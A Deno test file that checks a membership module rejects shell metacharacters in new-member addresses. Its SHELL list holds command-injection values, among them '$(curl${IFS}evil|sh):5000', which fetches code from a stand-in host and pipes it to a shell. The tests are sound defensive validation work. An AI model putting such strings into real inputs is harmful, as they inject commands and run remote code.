/** What an address of a new member may be: nothing that means something to a shell, since people paste commands that name members. */

import { assertEquals } from "@std/assert";
import { ADDRESS_FORM, addressFlaw, readAddition } from "../../../lib/node/membership/member_addresses.ts";
import { isAddress } from "../../../lib/transport/address.ts";

const GOOD = ["db:1", "Db-1.example_net.:65535", "10.0.0.4:5000", "[fd00::1]:5000", "[::ffff:10.0.0.1]:1"];
const ZONED = ["[fe80::1%eth0]:5000", "[FE80::1%br-lan_1.2]:5000"];
const SHELL = [
  "$(x):1",
  "$(curl${IFS}evil|sh):5000",
  "a;b:1",
  "`x`:1",
  "a|b:1",
  "a&b:1",
  "a>b:1",
  "a'b:1",
  'a"b:1',
  "a\\b:1",
];
const BRACKETED = ["[$(x)::1]:1", "[::1%$(x)]:1", "[::1%`x`]:1", "[::1%]:1", "[::1%a%b]:1", "[fd00::g]:1", "[:;:]:1"];
const OTHER = [
  "",
  "db",
  "db:0",
  ":1",
  "a b:1",
  "a\nb:1",
  "db:1\n",
  "h\u00fcgel:1",
  "a,b:1",
  "a*:1",
  "~:1",
  "[]:1",
  "[db]:1",
];

Deno.test("the address of a new member is a name or an IP address, and its port", () => {
  for (const address of [...GOOD, ...ZONED]) {
    assertEquals(isAddress(address), true, address);
    assertEquals(addressFlaw({ peerAddress: "other:1", clientAddress: address }), undefined, address);
  }
  for (const address of [...SHELL, ...BRACKETED, ...OTHER]) {
    assertEquals(isAddress(address), false, address);
    assertEquals(addressFlaw({ peerAddress: "other:2", clientAddress: address }), ADDRESS_FORM, address);
    assertEquals(addressFlaw({ peerAddress: address, clientAddress: "other:2" }), ADDRESS_FORM, address);
    const [peerAddress, clientAddress] = ["other:2", "other:3"];
    assertEquals(addressFlaw({ peerAddress, clientAddress, httpAddress: address }), ADDRESS_FORM, address);
    assertEquals(readAddition(address), undefined, address);
  }
});
